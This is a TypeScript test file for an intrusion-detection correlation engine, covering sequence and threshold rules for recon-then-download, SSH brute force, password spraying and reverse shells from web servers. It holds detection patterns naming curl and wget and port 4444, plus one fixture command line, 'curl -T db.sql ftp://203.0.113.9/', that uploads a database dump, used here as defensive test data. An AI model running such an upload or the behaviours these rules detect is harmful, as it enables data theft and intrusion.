import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BASE, timedEvent } from '../helpers/rule-events.js';
import { AHEAD_MS, formatProblem, LATE_EVENTS_MS, loadRules, type LoadOptions, type Match, type RuleSet } from '../../src/rules/index.js';

const ev = timedEvent;

function load(text: string, options: LoadOptions = {}): RuleSet {
  const { ruleSet, problems } = loadRules([{ name: 'c.yaml', text }], options);
  assert.deepEqual(problems.map(formatProblem), []);
  return ruleSet;
}

/** Feeds events in order; returns the ids of the correlation rules that fired, per event. */
function feed(set: RuleSet, events: Record<string, unknown>[]): Match[] {
  return events.flatMap((e) => set.match(e).filter((m) => m.correlation !== undefined));
}

const recon = (host: string, seconds: number, name = 'whoami') => ev('exec', seconds, { 'host.name': host, 'process.name': name });
const download = (host: string, seconds: number) => ev('exec', seconds, { 'host.name': host, 'process.name': 'curl' });

const sequenceRule = (extra = '') => `
rules:
  - id: recon_then_download
    type: sequence
    title: Reconnaissance then download
    severity: high
    tags: [attack.discovery]
    within: 60s
    by: host.name
    output: "recon then download on {host.name} ({correlation.count} steps, key {correlation.key})"
${extra}    steps:
      - name: recon
        condition: event.action = exec and process.name in (whoami, id, uname)
      - name: download
        condition: event.action = exec and process.name in (curl, wget)
`;

describe('correlation: sequences', () => {
  it('fires when the steps come in order within the window, once', () => {
    const set = load(sequenceRule());
    const hits = feed(set, [recon('web-01', 0), download('web-01', 30), download('web-01', 40)]);
    assert.equal(hits.length, 1);
    const [hit] = hits;
    assert.equal(hit?.rule.id, 'recon_then_download');
    assert.equal(hit?.output, 'recon then download on web-01 (2 steps, key web-01)');
    assert.equal(hit?.correlation?.key, 'web-01');
    assert.equal(hit?.correlation?.events.length, 2);
    assert.equal((hit?.correlation?.last ?? 0) - (hit?.correlation?.first ?? 0), 30_000);
    assert.deepEqual(hit?.tags, ['attack.discovery']);
  });

  it('keeps a long group key as its start and digest: distinct keys apart, the same key together', () => {
    // Grouped by a command line (up to 64 KiB of the host's own text): 10,000 such keys kept
    // whole would hold 640 MiB for one rule.
    const byLine = sequenceRule().replace('by: host.name', 'by: process.command_line');
    const set = load(byLine);
    const line = (tail: string) => `sh -c ${'x'.repeat(60_000)}${tail}`;
    const step = (name: string, seconds: number, tail: string) => ev('exec', seconds, { 'process.name': name, 'process.command_line': line(tail) });
    // Two lines alike but for their end: two groups, each completed by its own line only.
    assert.equal(feed(set, [step('whoami', 0, 'a'), step('curl', 10, 'b')]).length, 0);
    const [hit, ...more] = feed(set, [step('curl', 20, 'a')]);
    assert.equal(more.length, 0);
    const key = hit?.correlation?.key ?? '';
    assert.ok(key.length < 400, `${key.length} characters`);
    assert.match(key, /^sh -c x{250}\u2026sha256:[0-9a-f]{64}$/);
    // Bytes that are not UTF-8 (lone surrogates) are told apart too.
    assert.equal(feed(set, [step('whoami', 22, '\udc80'), step('curl', 23, '\udc81')]).length, 0);
    assert.equal(feed(set, [step('curl', 24, '\udc80')]).length, 1);
    // A key up to the bound is kept as it is.
    const short = `sh -c ${'y'.repeat(1_000)}`;
    const kept = feed(set, [ev('exec', 30, { 'process.name': 'id', 'process.command_line': short }), ev('exec', 31, { 'process.name': 'wget', 'process.command_line': short })]);
    assert.equal(kept[0]?.correlation?.key, short);
  });

  it('does not fire out of order when ordered', () => {
    const set = load(sequenceRule());
    assert.equal(feed(set, [download('web-01', 0), recon('web-01', 10)]).length, 0);
  });

  it('fires out of order when not ordered', () => {
    const set = load(sequenceRule('    ordered: false\n'));
    assert.equal(feed(set, [download('web-01', 0), recon('web-01', 10)]).length, 1);
  });

  it('fires unordered only when every step fits in one window, whatever the order of arrival', () => {
    const set = load(`
rules:
  - id: abc
    type: sequence
    ordered: false
    title: a, b and c
    severity: high
    within: 60s
    by: host.name
    steps:
      - condition: event.action = exec and process.name = a
      - condition: event.action = exec and process.name = b
      - condition: event.action = exec and process.name = c
`);
    const run = (host: string, seconds: number, name: string) => ev('exec', seconds, { 'host.name': host, 'process.name': name });
    // b arrives last but happened between: a at 0 and c at 120 are 120 s apart.
    assert.equal(feed(set, [run('web-01', 0, 'a'), run('web-01', 120, 'c'), run('web-01', 60, 'b')]).length, 0);
    const hits = feed(set, [run('web-02', 0, 'a'), run('web-02', 50, 'c'), run('web-02', 30, 'b')]);
    assert.equal(hits.length, 1, 'a, b and c within 50 s');
    assert.equal(hits[0]?.correlation?.first, BASE);
    assert.equal(hits[0]?.correlation?.last, BASE + 50_000);
  });

  it('unordered: one event holds one step, so a command that matches two steps does not complete them alone', () => {
    const set = load(`
rules:
  - id: two_tools
    type: sequence
    ordered: false
    title: two tools
    severity: high
    within: 60s
    by: host.name
    steps:
      - condition: event.action = exec and process.command_line contains whoami
      - condition: event.action = exec and process.command_line contains id
`);
    const run = (host: string, seconds: number, line: string) => ev('exec', seconds, { 'host.name': host, 'process.command_line': line });
    assert.equal(feed(set, [run('web-01', 0, "sh -c 'whoami; id'")]).length, 0, 'one event, two steps');
    // The first event took a step; a second one that matches only that step makes the first move to the other.
    const moved = feed(set, [run('web-02', 0, "sh -c 'whoami; id'"), run('web-02', 5, 'whoami')]);
    assert.equal(moved.length, 1, 'the first event moves to the step the second cannot hold');
    assert.equal(moved[0]?.correlation?.events.length, 2);
    assert.notEqual(moved[0]?.correlation?.events[0], moved[0]?.correlation?.events[1]);
    const other = feed(set, [run('web-03', 0, "sh -c 'whoami; id'"), run('web-03', 5, 'id')]);
    assert.equal(other.length, 1);
  });

  it('does not fire when the window has passed', () => {
    const set = load(sequenceRule());
    assert.equal(feed(set, [recon('web-01', 0), download('web-01', 61)]).length, 0);
    const unordered = load(sequenceRule('    ordered: false\n'));
    assert.equal(feed(unordered, [download('web-01', 0), recon('web-01', 61)]).length, 0);
  });

  it('keeps the latest start, so an old first step does not hide a new one', () => {
    const set = load(sequenceRule());
    assert.equal(feed(set, [recon('web-01', 0), recon('web-01', 50), download('web-01', 100)]).length, 1);
  });

  it('keeps the latest first step when an older one arrives late', () => {
    const set = load(sequenceRule());
    // The recon at 0 arrives after the one at 50: the download at 100 is 50 s after the latter.
    assert.equal(feed(set, [recon('web-01', 50), recon('web-01', 0), download('web-01', 100)]).length, 1);
  });

  it('groups by key', () => {
    const set = load(sequenceRule());
    assert.equal(feed(set, [recon('web-01', 0), download('web-02', 10)]).length, 0);
    assert.equal(feed(set, [recon('web-02', 20)]).length, 0, 'the download on web-02 came before its recon');
    assert.equal(feed(set, [download('web-02', 30)]).length, 1);
    assert.equal(feed(set, [download('web-01', 31)]).length, 1, 'web-01 had its recon at 0');
  });

  it('uses other rules as steps, including rules that do not alert', () => {
    const set = load(`
rules:
  - id: failed_login
    title: SSH login failed
    severity: info
    alert: false
    condition: event.action = ssh_login and event.outcome = failure
  - id: ok_login
    title: SSH login succeeded
    severity: info
    condition: event.action = ssh_login and event.outcome = success
  - id: fail_then_ok
    type: sequence
    title: Failure then success
    severity: medium
    within: 5m
    by: [source.ip, user.name]
    steps:
      - rule: failed_login
      - rule: ok_login
`);
    const fail = ev('ssh_login', 0, { 'event.outcome': 'failure' });
    const ok = ev('ssh_login', 10, { 'event.outcome': 'success' });
    assert.deepEqual(set.match(fail), []);
    assert.deepEqual(
      set.match(ok).map((m) => m.rule.id),
      ['ok_login', 'fail_then_ok'],
    );
    assert.deepEqual(set.rule('fail_then_ok')?.actions, ['ssh_login']);
  });

  it('maps fields per step (aliases): the server a client reached, then the client reaching out', () => {
    const set = load(`
rules:
  - id: inbound_then_outbound
    type: sequence
    title: Reverse connection
    severity: high
    within: 1m
    by: destination.ip
    steps:
      - condition: event.action = accept and destination.port = 22
        by: source.ip
      - condition: event.action = connect
`);
    const inbound = ev('accept', 0, { 'source.ip': '198.51.100.9' });
    const outbound = ev('connect', 5, { 'destination.ip': '198.51.100.9' });
    const elsewhere = ev('connect', 5, { 'destination.ip': '192.0.2.1' });
    assert.equal(feed(set, [inbound, elsewhere]).length, 0);
    assert.equal(feed(set, [outbound]).length, 1);
  });

  it('follows a process tree: a later step anywhere under the first step\'s process', () => {
    const set = load(`
rules:
  - id: web_shell_then_connect
    type: sequence
    title: Shell under a web server, then a connection from its tree
    severity: critical
    within: 2m
    by: [host.name, process.tree]
    steps:
      - condition: event.action = exec and process.name = sh and ancestor.name in (nginx, php-fpm8.2)
      - condition: event.action = connect and destination.port = 4444
`);
    const shell = ev('exec', 0, { 'process.name': 'sh', 'process.entity_id': 'web-01:100:1' });
    // A grandchild of the shell: the shell is among its ancestors.
    const grandchild = ev('connect', 10, {
      'process.entity_id': 'web-01:300:3',
      'process.parent': { pid: 200, entity_id: 'web-01:200:2' },
      'hades.ancestors': [
        { pid: 200, entity_id: 'web-01:200:2', name: 'bash' },
        { pid: 100, entity_id: 'web-01:100:1', name: 'sh' },
      ],
      'destination.port': 4444,
    });
    const stranger = ev('connect', 10, { 'process.entity_id': 'web-01:900:9', 'process.parent': { pid: 1, entity_id: 'web-01:1:0' }, 'destination.port': 4444 });
    assert.equal(feed(set, [shell, stranger]).length, 0);
    const hits = feed(set, [grandchild]);
    assert.equal(hits.length, 1);
    assert.equal(hits[0]?.correlation?.key, 'web-01\u0000web-01:100:1');
  });
});

const sshFailure = (seconds: number, ip: string, user = 'root') => ev('ssh_login', seconds, { 'event.outcome': 'failure', 'source.ip': ip, 'user.name': user });

/** Makes `field` of the event's process a getter that counts its reads in `reads.count`. */
function countReads(event: Record<string, unknown>, field: string, value: string, reads: { count: number }): Record<string, unknown> {
  Object.defineProperty(event['process'], field, {
    enumerable: true,
    get() {
      reads.count++;
      return value;
    },
  });
  return event;
}

describe('correlation: later steps only where a group waits', () => {
  it('does not evaluate a later step of an ordered sequence when no group under its keys has reached the step before', () => {
    const set = load(`
rules:
  - id: recon_then_upload
    type: sequence
    title: Reconnaissance, then an upload
    severity: high
    within: 60s
    by: host.name
    steps:
      - condition: event.action = exec and process.name = whoami
      - condition: event.action = exec and process.name = curl and process.command_line contains "-T"
`);
    const reads = { count: 0 };
    const counted = (host: string, seconds: number) => countReads(ev('exec', seconds, { 'host.name': host, 'process.name': 'curl' }), 'command_line', 'curl -T db.sql ftp://203.0.113.9/', reads);
    // Nothing waits on web-02, nor anywhere yet: the second step's command line is never read.
    assert.equal(feed(set, [counted('web-01', 0), counted('web-02', 1)]).length, 0);
    assert.equal(reads.count, 0);
    // web-01 waits after its whoami: its curl is evaluated (and completes the sequence); web-02's is not.
    assert.equal(feed(set, [recon('web-01', 2), counted('web-02', 3)]).length, 0);
    assert.equal(reads.count, 0);
    const hits = feed(set, [counted('web-01', 4)]);
    assert.equal(hits.length, 1);
    assert.ok(reads.count >= 1);
  });

  it('passes over the later step of a process tree sequence for a process under no open group, and counts groups again once they close', () => {
    const set = load(`
rules:
  - id: interpreter_then_shell
    type: sequence
    title: An interpreter connected out, then a shell under it
    severity: medium
    within: 60s
    by: [host.name, process.tree]
    steps:
      - condition: event.action = connect and process.name = python3
      - condition: event.action = exec and process.name = sh and not process.working_directory = /nowhere
`);
    const reads = { count: 0 };
    const shell = (seconds: number, pid: number, ancestors: string[]) =>
      countReads(
        ev('exec', seconds, {
          'process.name': 'sh',
          'process.entity_id': `web-01:${pid}:1`,
          'process.parent': { pid: pid - 1, entity_id: ancestors[0] ?? 'web-01:1:0' },
          'hades.ancestors': ancestors.map((id, i) => ({ pid: pid - 1 - i, entity_id: id, name: 'x' })),
        }),
        'working_directory',
        '/root',
        reads,
      );
    const connect = (seconds: number, id: string) => ev('connect', seconds, { 'process.name': 'python3', 'process.entity_id': id });
    // A shell under no interpreter that connected: its working folder is not read.
    assert.equal(feed(set, [shell(0, 50, ['web-01:49:1'])]).length, 0);
    assert.equal(reads.count, 0);
    // python3 (web-01:100:1) connects; a shell under another tree is still passed over, one under it fires.
    assert.equal(feed(set, [connect(1, 'web-01:100:1'), shell(2, 60, ['web-01:59:1'])]).length, 0);
    assert.equal(reads.count, 0);
    assert.equal(feed(set, [shell(3, 102, ['web-01:101:1', 'web-01:100:1'])]).length, 1);
    assert.ok(reads.count >= 1);
    // The run is over and its group gone: a second shell under the same interpreter is passed over.
    const before = reads.count;
    assert.equal(feed(set, [shell(4, 104, ['web-01:103:1', 'web-01:100:1'])]).length, 0);
    assert.equal(reads.count, before);
  });
});

describe('correlation: thresholds', () => {
  const bruteForce = `
rules:
  - id: ssh_brute_force
    type: threshold
    title: SSH brute force
    severity: high
    condition: event.action = ssh_login and event.outcome = failure
    count: 5
    within: 60s
    by: source.ip
    output: "{correlation.count} failures from {source.ip}"
`;

  it('fires at the count within the window, then starts over', () => {
    const set = load(bruteForce);
    const events = [0, 5, 10, 15].map((s) => sshFailure(s, '198.51.100.9'));
    assert.equal(feed(set, events).length, 0);
    const hits = feed(set, [sshFailure(20, '198.51.100.9')]);
    assert.equal(hits.length, 1);
    assert.equal(hits[0]?.output, '5 failures from 198.51.100.9');
    assert.equal(hits[0]?.correlation?.count, 5);
    assert.equal(hits[0]?.correlation?.events.length, 5);
    assert.equal(feed(set, [sshFailure(21, '198.51.100.9')]).length, 0, 'state was cleared');
  });

  it('reads event times in any form Date.parse takes, not only the events\' own UTC form', () => {
    const set = load(bruteForce);
    // The same instants as 0, 5, 10, 15 and 20 s after BASE, written with an offset, without
    // milliseconds, or with more decimals: one window, five events.
    const at = (seconds: number, form: (d: Date) => string) => {
      const e = sshFailure(seconds, '198.51.100.9');
      e['@timestamp'] = form(new Date(BASE + seconds * 1000));
      return e;
    };
    const offset = (d: Date) => new Date(d.getTime() + 2 * 3_600_000).toISOString().replace('Z', '+02:00');
    const events = [at(0, offset), at(5, (d) => d.toISOString().replace('.000Z', 'Z')), at(10, (d) => d.toISOString().replace('Z', '123Z')), at(15, offset)];
    assert.equal(feed(set, events).length, 0);
    assert.equal(feed(set, [at(20, offset)]).length, 1, 'five failures within 60 s');
  });

  it('counts only the events within the sliding window', () => {
    const set = load(bruteForce);
    // 4 early, then 4 more after the early ones left the window: never 5 within 60 s.
    const events = [0, 1, 2, 3, 62, 63, 64, 65].map((s) => sshFailure(s, '198.51.100.9'));
    assert.equal(feed(set, events).length, 0);
    assert.equal(feed(set, [sshFailure(66, '198.51.100.9')]).length, 1, '62..66 are five within 60 s');
  });

  it('counts events that arrive slightly out of order, not those older than the window', () => {
    const set = load(bruteForce);
    const events = [30, 10, 40, 20].map((s) => sshFailure(s, '198.51.100.9'));
    assert.equal(feed(set, events).length, 0);
    assert.equal(feed(set, [sshFailure(-40, '198.51.100.9')]).length, 0, '70 s before the newest: too late');
    const hits = feed(set, [sshFailure(25, '198.51.100.9')]);
    assert.equal(hits.length, 1);
    assert.equal(hits[0]?.correlation?.first, BASE + 10_000);
    assert.equal(hits[0]?.correlation?.last, BASE + 40_000);
  });

  it('counts per group', () => {
    const set = load(bruteForce);
    const events = [0, 1, 2, 3, 4].map((s) => sshFailure(s, s % 2 === 0 ? '198.51.100.9' : '198.51.100.10'));
    assert.equal(feed(set, events).length, 0);
  });

  it('counts distinct values', () => {
    const set = load(`
rules:
  - id: password_spray
    type: threshold
    title: Password spraying
    severity: high
    condition: event.action = ssh_login and event.outcome = failure
    distinct: user.name
    count: 3
    within: 5m
    by: source.ip
`);
    const same = [0, 1, 2, 3].map((s) => sshFailure(s, '198.51.100.9', 'root'));
    assert.equal(feed(set, same).length, 0, 'one user many times is not spraying');
    assert.equal(feed(set, [sshFailure(4, '198.51.100.9', 'admin')]).length, 0);
    const hits = feed(set, [sshFailure(5, '198.51.100.9', 'oracle')]);
    assert.equal(hits.length, 1);
    assert.deepEqual(hits[0]?.correlation?.values, ['root', 'admin', 'oracle']);
  });

  it('counts each value of a field that holds several, and names each event that brought them once', () => {
    const set = load(`
rules:
  - id: many_args
    type: threshold
    title: Many arguments
    severity: low
    condition: event.action = exec and process.name = touch
    distinct: process.args
    count: 3
    within: 5m
    by: host.name
`);
    const first = ev('exec', 0, { 'process.name': 'touch', 'process.args': ['touch', 'x'] });
    const second = ev('exec', 1, { 'process.name': 'touch', 'process.args': ['touch', 'y'] });
    assert.equal(feed(set, [first]).length, 0);
    const hits = feed(set, [second]);
    assert.equal(hits.length, 1);
    assert.deepEqual(hits[0]?.correlation?.values, ['x', 'touch', 'y']);
    const ids = [first, second].map((e) => (e['event'] as { id: string }).id);
    assert.deepEqual(hits[0]?.correlation?.events, ids, 'the second event once, though it brought two values');
  });

  it('counts a distinct value that arrives out of order only while it is in the window', () => {
    const set = load(`
rules:
  - id: password_spray
    type: threshold
    title: Password spraying
    severity: high
    condition: event.action = ssh_login and event.outcome = failure
    distinct: user.name
    count: 3
    within: 10s
    by: source.ip
`);
    // admin at 95 s arrives after root at 100 s: in the window then (90..100), out of it at 106 (96..106).
    assert.equal(feed(set, [sshFailure(100, '198.51.100.9', 'root'), sshFailure(95, '198.51.100.9', 'admin')]).length, 0);
    assert.equal(feed(set, [sshFailure(106, '198.51.100.9', 'oracle')]).length, 0, 'only root and oracle are within 10 s of 106 s');
    const hits = feed(set, [sshFailure(107, '198.51.100.9', 'guest')]);
    assert.equal(hits.length, 1);
    assert.deepEqual(hits[0]?.correlation?.values, ['root', 'oracle', 'guest']);
    assert.equal(hits[0]?.correlation?.first, BASE + 100_000);
  });

  it('counts the matches of other rules, and chains into a sequence (Sigma chained correlations)', () => {
    const set = load(`
rules:
  - id: failed_login
    title: failed
    severity: info
    alert: false
    condition: event.action = ssh_login and event.outcome = failure
  - id: many_failures
    type: threshold
    title: many failures
    severity: medium
    alert: false
    rules: [failed_login]
    count: 3
    within: 1m
    by: user.name
  - id: ok_login
    title: ok
    severity: info
    alert: false
    condition: event.action = ssh_login and event.outcome = success
  - id: brute_force_success
    type: sequence
    title: Many failures, then a success
    severity: critical
    within: 10m
    by: user.name
    steps:
      - rule: many_failures
      - rule: ok_login
`);
    const events = [0, 1, 2].map((s) => sshFailure(s, '198.51.100.9'));
    assert.equal(feed(set, events).length, 0, 'the threshold does not alert on its own');
    const hits = feed(set, [ev('ssh_login', 30, { 'event.outcome': 'success' })]);
    assert.deepEqual(
      hits.map((m) => m.rule.id),
      ['brute_force_success'],
    );
  });

  it('applies exceptions to the events a correlation counts', () => {
    const set = load(`${bruteForce}    exceptions:\n      - field: source.ip\n        values: [198.51.100.9]\n`);
    assert.equal(feed(set, [0, 1, 2, 3, 4, 5].map((s) => sshFailure(s, '198.51.100.9'))).length, 0);
  });

  it('can be tuned by an override (count, window)', () => {
    const { ruleSet, problems } = loadRules([
      { name: 'c.yaml', text: bruteForce },
      { name: 'local.yaml', text: 'rules:\n  - override: ssh_brute_force\n    replace:\n      count: 2\n      within: 5s\n' },
    ]);
    assert.deepEqual(problems, []);
    assert.equal(feed(ruleSet, [sshFailure(0, '198.51.100.9'), sshFailure(6, '198.51.100.9')]).length, 0);
    assert.equal(feed(ruleSet, [sshFailure(7, '198.51.100.9')]).length, 1);
  });

  it('counts what an override leaves of its condition: replaced, or with an appended part and-ed to it', () => {
    const withOverride = (override: string) => {
      const { ruleSet, problems } = loadRules([
        { name: 'c.yaml', text: bruteForce },
        { name: 'local.yaml', text: `rules:\n  - override: ssh_brute_force\n${override}` },
      ]);
      assert.deepEqual(problems.map(formatProblem), []);
      return ruleSet;
    };
    const five = (user: string) => [0, 1, 2, 3, 4].map((s) => sshFailure(s, '198.51.100.9', user));
    // Appended: failures for root no longer count, failures for others still do.
    const appended = withOverride('    append:\n      condition: user.name != root\n');
    assert.equal(feed(appended, five('root')).length, 0);
    assert.equal(feed(appended, five('alice')).length, 1);
    // Replaced: successes count instead of failures.
    const replaced = withOverride('    replace:\n      condition: event.action = ssh_login and event.outcome = success\n');
    assert.equal(feed(replaced, five('root')).length, 0);
    const successes = [10, 11, 12, 13, 14].map((s) => ev('ssh_login', s, { 'event.outcome': 'success', 'source.ip': '198.51.100.9', 'user.name': 'root' }));
    assert.equal(feed(replaced, successes).length, 1);
  });

  it('still counts the events of a disabled rule that a correlation uses, without alerts of its own', () => {
    const text = `${bruteForce}  - id: brute_force_then_login
    type: sequence
    title: t
    severity: critical
    within: 10m
    by: source.ip
    steps:
      - rule: ssh_brute_force
      - condition: event.action = ssh_login and event.outcome = success
`;
    const { ruleSet, problems } = loadRules([
      { name: 'c.yaml', text },
      { name: 'local.yaml', text: 'rules:\n  - override: ssh_brute_force\n    replace:\n      enabled: false\n' },
    ]);
    assert.deepEqual(problems.map(formatProblem), []);
    const ids = (events: Record<string, unknown>[]) => events.flatMap((e) => ruleSet.match(e).map((m) => m.rule.id));
    assert.deepEqual(ids([0, 1, 2, 3, 4].map((s) => sshFailure(s, '198.51.100.9'))), [], 'the disabled threshold raises nothing');
    assert.deepEqual(ids([ev('ssh_login', 5, { 'event.outcome': 'success', 'source.ip': '198.51.100.9', 'user.name': 'root' })]), ['brute_force_then_login']);
    assert.equal(ruleSet.rules.find((r) => r.id === 'ssh_brute_force')?.enabled, false);
  });

  it('does not let an appended condition make a threshold with neither condition nor rules valid', () => {
    const { problems } = loadRules([
      { name: 'c.yaml', text: 'rules:\n  - id: empty_threshold\n    type: threshold\n    title: t\n    severity: low\n    count: 2\n    within: 1m\n' },
      { name: 'local.yaml', text: 'rules:\n  - override: empty_threshold\n    append:\n      condition: event.action = ssh_login\n' },
    ]);
    assert.ok(problems.some((p) => p.code === 'HADES_ERR_RULE_INVALID' && /not both or neither/.test(p.message)), problems.map(formatProblem).join('\n'));
  });

  it('refuses to override the condition of a threshold over other rules, at the override', () => {
    const { problems } = loadRules([
      { name: 'c.yaml', text: `${bruteForce}  - id: failures_counted\n    type: threshold\n    title: t\n    severity: low\n    rules: [ssh_brute_force]\n    count: 2\n    within: 1h\n` },
      { name: 'local.yaml', text: 'rules:\n  - override: failures_counted\n    append:\n      condition: user.name = root\n' },
    ]);
    assert.deepEqual(
      problems.map((p) => [p.code, p.file, /threshold over the rules it names/.test(p.message)]),
      [['HADES_ERR_RULE_INVALID', 'local.yaml', true]],
    );
  });
});

describe('correlation: bounded state', () => {
  const rule = `
rules:
  - id: slow_burn
    type: threshold
    title: T
    severity: low
    condition: event.action = ssh_login
    count: 3
    within: 60s
    by: source.ip
`;
  it('evicts the least recently touched group beyond maxKeys, and counts it', () => {
    const set = load(rule, { maxKeysPerRule: 2 });
    feed(set, [sshFailure(0, '192.0.2.1'), sshFailure(1, '192.0.2.2'), sshFailure(2, '192.0.2.1'), sshFailure(3, '192.0.2.3')]);
    let stats = set.correlationStats();
    assert.equal(stats.keys, 2);
    assert.equal(stats.evicted, 1);
    // 192.0.2.2 was the least recently touched: it went, 192.0.2.1 kept its two events.
    assert.equal(feed(set, [sshFailure(4, '192.0.2.1')]).length, 1);
    feed(set, [sshFailure(5, '192.0.2.2'), sshFailure(6, '192.0.2.2')]);
    stats = set.correlationStats();
    assert.equal(stats.evicted, 1, 'no eviction needed: 192.0.2.1 left when it fired');
  });

  it('evicts in least-recently-touched order when groups are touched after the sweep has met them', () => {
    const set = load(rule, { maxKeysPerRule: 3 });
    // a, b, c; a touched again (now b, c, a); d comes: b, the least recently touched, goes.
    feed(set, [sshFailure(0, '192.0.2.1'), sshFailure(1, '192.0.2.2'), sshFailure(2, '192.0.2.3'), sshFailure(3, '192.0.2.1'), sshFailure(4, '192.0.2.4')]);
    assert.deepEqual([set.correlationStats().keys, set.correlationStats().evicted], [3, 1]);
    // a kept its two events: one more fires; c kept its one event.
    assert.equal(feed(set, [sshFailure(5, '192.0.2.1')]).length, 1);
    assert.equal(feed(set, [sshFailure(6, '192.0.2.3'), sshFailure(7, '192.0.2.3')]).length, 1);
    // b started over: two events do not fire it, a third does (c and a fired and left, no eviction).
    assert.equal(feed(set, [sshFailure(8, '192.0.2.2'), sshFailure(9, '192.0.2.2')]).length, 0);
    assert.equal(feed(set, [sshFailure(10, '192.0.2.2')]).length, 1);
    assert.equal(set.correlationStats().evicted, 1);
  });

  it('expires many groups over a long stream, each once, whatever the order they were touched in', () => {
    const set = load(rule);
    // Thousands of sources, each seen once or twice; the early ones touched again later.
    const events = [];
    for (let i = 0; i < 3_000; i++) events.push(sshFailure(i, `10.0.${Math.floor(i / 250)}.${i % 250}`));
    for (let i = 0; i < 100; i++) events.push(sshFailure(3_000 + i, `10.0.0.${i}`));
    feed(set, events);
    const stats = set.correlationStats();
    // Within 60 s of the last event: the sources of the last two minutes are kept at most, the
    // others expired (the first hundred twice: their second events came long after the first).
    assert.ok(stats.keys <= 130, `${stats.keys} groups kept`);
    assert.equal(stats.keys + stats.expired, 3_100);
    set.expire(BASE + 10_000_000);
    assert.deepEqual([set.correlationStats().keys, set.correlationStats().expired], [0, 3_100]);
  });

  it('expires groups as event time passes, and on demand', () => {
    const set = load(rule);
    feed(set, [sshFailure(0, '192.0.2.1'), sshFailure(1, '192.0.2.2')]);
    assert.equal(set.correlationStats().keys, 2);
    feed(set, [sshFailure(200, '192.0.2.3')]);
    const stats = set.correlationStats();
    assert.equal(stats.expired, 2);
    assert.equal(stats.keys, 1);
    set.expire(BASE + 1_000_000);
    assert.equal(set.correlationStats().keys, 0);
    assert.equal(set.correlationStats().expired, 3);
    const perRule = set.stats().find((s) => s.id === 'slow_burn');
    assert.equal(perRule?.correlation?.expired, 3);
  });

  it('keeps a late backlog\'s state across a wall-clock timer (expireIdle), for LATE_EVENTS_MS', () => {
    const set = load(rule);
    // Events stamped ten minutes before "now", delivered in two batches with the server's timer between.
    const wallNow = BASE + 10 * 60_000;
    feed(set, [sshFailure(0, '192.0.2.7'), sshFailure(1, '192.0.2.7')]);
    set.expireIdle(wallNow);
    assert.equal(set.correlationStats().keys, 1, 'ten minutes late is not too late');
    assert.equal(feed(set, [sshFailure(2, '192.0.2.7')]).length, 1, 'the third failure completes the threshold');
    feed(set, [sshFailure(3, '192.0.2.8')]);
    set.expireIdle(BASE + LATE_EVENTS_MS + 3_000 + 60_000 + 1);
    assert.equal(set.correlationStats().keys, 0, 'gone once its window ended more than LATE_EVENTS_MS ago');
  });

  it('holds at most maxKeys groups under a flood of distinct keys', () => {
    const set = load(rule, { maxKeysPerRule: 100 });
    for (let i = 0; i < 5000; i++) set.match(sshFailure(i / 1000, `10.0.${i >> 8}.${i & 255}`));
    const stats = set.correlationStats();
    assert.equal(stats.keys, 100);
    // One agent's events: its share of the groups (at least 100) is the whole budget here.
    assert.equal(stats.evicted + stats.limited, 4900);
  });

  it('keeps one agent from evicting, completing or taking over another host\'s groups', () => {
    const byHost = rule.replace('by: source.ip', 'by: host.name');
    const from = (agent: string, host: string, seconds: number, ip = '198.51.100.1') => {
      const e = sshFailure(seconds, ip);
      e['agent'] = { ...(e['agent'] as object), id: agent };
      e['host'] = { ...(e['host'] as object), name: host };
      return e;
    };
    const set = load(byHost, { maxKeysPerRule: 1000 });
    feed(set, [from('ag_victim', 'web-1', 0), from('ag_victim', 'web-1', 1)]);
    // A flood of groups from another agent (host names it makes up) drops its own oldest only.
    for (let i = 0; i < 5000; i++) set.match(from('ag_flood', `h-${i}`, 2));
    let stats = set.correlationStats();
    assert.equal(stats.evicted, 0);
    assert.equal(stats.limited, 4900, 'the flooding agent keeps its share: 100 of 1,000');
    // Its events that claim the victim's host name count in groups of its own.
    const spoofed = set.match(from('ag_flood', 'web-1', 3));
    assert.equal(spoofed.length, 0);
    const fired = set.match(from('ag_victim', 'web-1', 4));
    assert.deepEqual(fired.map((m) => [m.rule.id, m.correlation?.count, m.correlation?.key]), [['slow_burn', 3, 'web-1']], 'the key as shown leaves the agent out');
    stats = set.correlationStats();
    assert.equal(stats.fired, 1);
    // A rule grouped by a field that is not the host's is the fleet's: every agent counts in it.
    const fleet = load(rule, { maxKeysPerRule: 1000 });
    feed(fleet, [from('ag_a', 'a', 0, '192.0.2.50'), from('ag_b', 'b', 1, '192.0.2.50')]);
    assert.equal(fleet.match(from('ag_c', 'c', 2, '192.0.2.50')).length, 1);
  });

  it('holds at most maxEntriesPerRule event times and distinct values over all its groups', () => {
    // A count of 1,000 and 10,000 groups: up to ten million times kept before, whatever the memory.
    const big = rule.replace('count: 3', 'count: 1000');
    const set = load(big, { maxEntriesPerRule: 500 });
    for (let i = 0; i < 40; i++) for (let j = 0; j < 20; j++) set.match(sshFailure(i + j / 100, `10.1.0.${i}`));
    let stats = set.correlationStats();
    // 40 groups of 20 times each would be 800: the oldest went, 25 groups of 20 stay.
    assert.equal(stats.keys, 25);
    assert.equal(stats.evicted, 15);
    // Distinct counts too: each distinct user is one entry.
    const distinct = load(big.replace('by: source.ip', 'by: source.ip\n    distinct: user.name'), { maxEntriesPerRule: 100 });
    for (let i = 0; i < 10; i++) for (let j = 0; j < 30; j++) distinct.match(sshFailure(i + j / 100, `10.2.0.${i}`, `user${j}`));
    stats = distinct.correlationStats();
    assert.equal(stats.keys, 3, '3 groups of 30 users: 90 entries');
    assert.equal(stats.evicted, 7);
    // What fires still fires: a group that reaches its count within the budget.
    const small = load(rule, { maxEntriesPerRule: 4 });
    assert.equal(feed(small, [sshFailure(0, '192.0.2.1'), sshFailure(0.5, '192.0.2.2'), sshFailure(1, '192.0.2.1'), sshFailure(2, '192.0.2.1')]).length, 1);
  });

  it('counts a long distinct value by its size against maxEntriesPerRule: command lines of 64 KiB cannot fill the memory', () => {
    const sweep = `
rules:
  - id: ping_sweep
    type: threshold
    title: T
    severity: low
    condition: event.action = exec and process.name = ping
    distinct: process.command_line
    count: 30
    within: 60s
    by: host.name
`;
    const ping = (host: string, seconds: number, line: string) => ev('exec', seconds, { 'host.name': host, 'process.name': 'ping', 'process.command_line': line });
    const pad = 'A'.repeat(65_000);
    const set = load(sweep, { maxEntriesPerRule: 25_000 });
    // 20 hosts with 29 distinct command lines of 64 KiB each: 37 MB of text, 580 values.
    for (let h = 0; h < 20; h++) for (let i = 0; i < 29; i++) set.match(ping(`h-${h}`, i / 100, `ping ${i} ${pad}`));
